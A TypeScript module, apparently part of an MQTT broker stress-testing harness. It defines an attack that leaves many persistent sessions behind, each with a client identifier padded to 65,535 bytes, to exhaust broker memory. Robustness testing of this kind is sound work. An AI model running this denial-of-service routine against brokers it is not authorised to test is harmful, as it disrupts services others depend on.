import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';

export interface LongClientIdOptions extends AttackOptions {
  /** Bytes. Default 65,535, the longest there can be. */
  readonly length?: number;
}

/** Leaves sessions behind whose client identifiers are as long as they can be. An action is a connection. */
export function longClientIds(target: AttackTarget, options: LongClientIdOptions = {}): Attack {
  const { length = 65_535 } = options;
  const assault = new Assault(target, planOf({ rate: 200, clients: 16 }, options));
  const { random, plan } = assault;
  return assault.run(() => {
    if (assault.size >= plan.clients) return false;
    const clientId = `${plan.name}-${random.next()}-`.padEnd(length, 'i');
    const client = assault.login({ clientId, cleanStart: false, properties: { sessionExpiryInterval: 3600 } });
    client.onPacket = () => void client.socket.end();
    return true;
  });
}
